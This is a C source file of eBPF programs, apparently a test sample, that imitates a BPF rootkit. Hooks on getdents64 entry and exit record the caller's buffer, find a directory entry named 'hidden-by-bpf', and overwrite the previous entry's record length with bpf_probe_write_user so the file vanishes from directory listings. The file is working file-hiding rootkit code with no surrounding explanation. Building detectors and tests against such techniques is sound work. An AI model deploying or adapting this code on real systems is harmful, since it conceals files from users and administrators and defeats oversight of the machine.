// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
/*
 * What programs are told of a directory lacks one name, as by rootkits that are made of BPF
 * programs: no module, no byte of the kernel changed. The entry before the hidden one is made to
 * reach over it, in the memory of whoever asked, after the kernel has filled that and before the
 * system call returns.
 */
#include "../../../bpf/lib/kernel_types.h"
#include <bpf/bpf_helpers.h>
#include <bpf/bpf_core_read.h>

char LICENSE[] SEC("license") = "Dual BSD/GPL";

/* arch/x86/entry/syscalls/syscall_64.tbl */
#define GETDENTS64 217
/* Entries of one answer that are looked at. */
#define ENTRIES 64

/* include/linux/dirent.h; the name follows. */
struct entry {
	__u64 inode;
	__s64 offset;
	__u16 length;
	__u8 type;
} __attribute__((packed));

/* What is hidden. */
static const char hidden[] = "hidden-by-bpf";

/* Where the answer of a task goes. */
struct {
	__uint(type, BPF_MAP_TYPE_HASH);
	__uint(max_entries, 1024);
	__type(key, __u64);
	__type(value, __u64);
} answers SEC(".maps");

SEC("raw_tp/sys_enter")
int remember(struct bpf_raw_tracepoint_args *ctx)
{
	struct pt_regs *registers = (void *)ctx->args[0];
	__u64 task = bpf_get_current_pid_tgid(), place;

	if (ctx->args[1] != GETDENTS64)
		return 0;
	place = BPF_CORE_READ(registers, si);
	bpf_map_update_elem(&answers, &task, &place, 0);
	return 0;
}

static __always_inline int is_hidden(__u64 place)
{
	char name[sizeof(hidden)] = {};
	int at;

	if (bpf_probe_read_user(name, sizeof(name), (void *)(place + sizeof(struct entry))))
		return 0;
	for (at = 0; at < (int)sizeof(hidden); at++)
		if (name[at] != hidden[at])
			return 0;
	return 1;
}

SEC("raw_tp/sys_exit")
int hide(struct bpf_raw_tracepoint_args *ctx)
{
	__u64 task = bpf_get_current_pid_tgid(), *answer, place, end, before = 0;
	__s64 length = ctx->args[1];
	struct entry entry = {};
	int number;

	answer = bpf_map_lookup_elem(&answers, &task);
	if (!answer)
		return 0;
	place = *answer;
	bpf_map_delete_elem(&answers, &task);
	if (length <= 0)
		return 0;
	end = place + length;
	for (number = 0; number < ENTRIES && place < end; number++) {
		__u16 reach;

		if (bpf_probe_read_user(&entry, sizeof(entry), (void *)place) || !entry.length)
			return 0;
		if (before && is_hidden(place)) {
			struct entry first = {};

			if (bpf_probe_read_user(&first, sizeof(first), (void *)before))
				return 0;
			reach = first.length + entry.length;
			bpf_probe_write_user((void *)(before + offsetof(struct entry, length)),
					     &reach, sizeof(reach));
			return 0;
		}
		before = place;
		place += entry.length;
	}
	return 0;
}
